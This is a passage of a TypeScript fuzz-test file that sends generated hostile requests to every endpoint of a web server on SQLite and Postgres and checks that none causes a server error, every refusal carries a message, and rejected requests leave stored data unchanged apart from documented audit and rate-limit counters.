        const per = report.byEndpoint[req.endpoint] ?? {};
        report.byEndpoint[req.endpoint] = per;
        per[status] = (per[status] ?? 0) + 1;
        if (status >= 500) {
          const logged = log
            .map(
              (l) =>
                JSON.parse(l) as {
                  level?: number;
                  err?: { type?: string; message?: string; stack?: string };
                },
            )
            .find((l) => (l.level ?? 0) >= 50 && l.err);
          const at = (logged?.err?.stack ?? '').split('\n').find((x) => x.includes('/src/'));
          const where = logged?.err
            ? `${logged.err.type ?? 'Error'} ${at?.trim().replace(/^at\s+/, 'at ') ?? ''}`.trim()
            : 'no error logged';
          report.serverErrorCauses[where] = (report.serverErrorCauses[where] ?? 0) + 1;
          report.serverErrorExamples[where] ??= (logged?.err?.message ?? '').slice(0, 160);
          report.serverErrors.push(`${status} ${res.body.slice(0, 200)} ← ${describeReq()}`);
          if (report.serverErrorRequests.length < 20)
            report.serverErrorRequests.push({
              method: req.method,
              url: req.url,
              headers,
              payload: typeof payload === 'string' ? payload : (payload?.toString('base64') ?? ''),
            });
        }
        if (status >= 400 && visibleText(res).length < 15)
          report.withoutMessage.push(`${status} ← ${describeReq()}`);
        log.length = 0;
        const after = await rowCounts(t.store);
        if (status >= 400) {
          const changed = Object.keys(after).filter((k) => after[k] !== before[k]);
          const allowed = new Set<string>();
          // By design: a failed sign-in is audited; a screened-out respondent is counted.
          if (
            changed.includes('audit_log') &&
            (req.url.startsWith('/signin') || req.url.startsWith('/setup'))
          ) {
            const added = await t.store.db
              .selectFrom('audit_log')
              .select('action')
              .where('id', '>', lastAudit)
              .execute();
            if (added.every((a) => a.action === 'sign_in.failure')) allowed.add('audit_log');
          }
          if (status === 422) allowed.add('progress_counters');
          // By design (issue 12, finding 20): the shared rate limits count every request, refused ones too,
          // and the shared sign-in throttle counts failed sign-ins.
          allowed.add('rate_counters');
          if (req.url.startsWith('/signin') || req.url.startsWith('/setup')) allowed.add('limit_state');
          const bad = changed.filter((k) => !allowed.has(k));
          if (bad.length)
            report.changedOnRejection.push(
              `${status} changed ${bad.map((k) => `${k} ${before[k]}→${after[k]}`).join(', ')} ← ${describeReq()}`,
            );
        }
        if (after.audit_log !== before.audit_log) {
          const last = await t.store.db
            .selectFrom('audit_log')
            .select((eb) => eb.fn.max('id').as('m'))
            .executeTakeFirstOrThrow();
          lastAudit = Number(last.m ?? 0);
        }
        before = after;
      }),
      { numRuns: runs, seed: SEED + backendIndex, endOnFailure: true },
    );
    return report;
  } finally {
    await t.close();
  }
}

const backends = serverBackends();
describe('hostile input, every endpoint', () => {
  backends.forEach((backend, i) => {
    const runs = backend.name === 'sqlite' ? RUNS : PG_RUNS;
    it(`${runs} generated requests on ${backend.name}: no 5xx, every refusal explained, nothing stored by a refusal`, async () => {
      const report = await fuzz(i, runs);
      const summary = {
        backend: report.backend,
        runs: report.runs,
        statuses: report.statuses,
        serverErrors: report.serverErrors.length,
        serverErrorCauses: report.serverErrorCauses,
        withoutMessage: report.withoutMessage.length,
        changedOnRejection: report.changedOnRejection.length,
        thrown: report.thrown.length,
      };
      console.log(`fuzz ${JSON.stringify(summary)}`);
      if (process.env.NABZ_FUZZ_REPORT)
        writeFileSync(
          `${process.env.NABZ_FUZZ_REPORT}.${report.backend}.json`,
          JSON.stringify(report, null, 1),
        );
      expect(report.thrown.slice(0, 5)).toEqual([]);
      expect(report.serverErrors.slice(0, 5)).toEqual([]);
      expect(report.withoutMessage.slice(0, 5)).toEqual([]);
      expect(report.changedOnRejection.slice(0, 5)).toEqual([]);
      // The generator reached the handlers, not only the front door.
      const reached = Object.entries(report.byEndpoint).filter(([, s]) =>
        Object.keys(s).some((k) => Number(k) < 400 || k === '400' || k === '409' || k === '422'),
      );
      expect(reached.length).toBeGreaterThan(10);
    }, 1_800_000);
  });
});
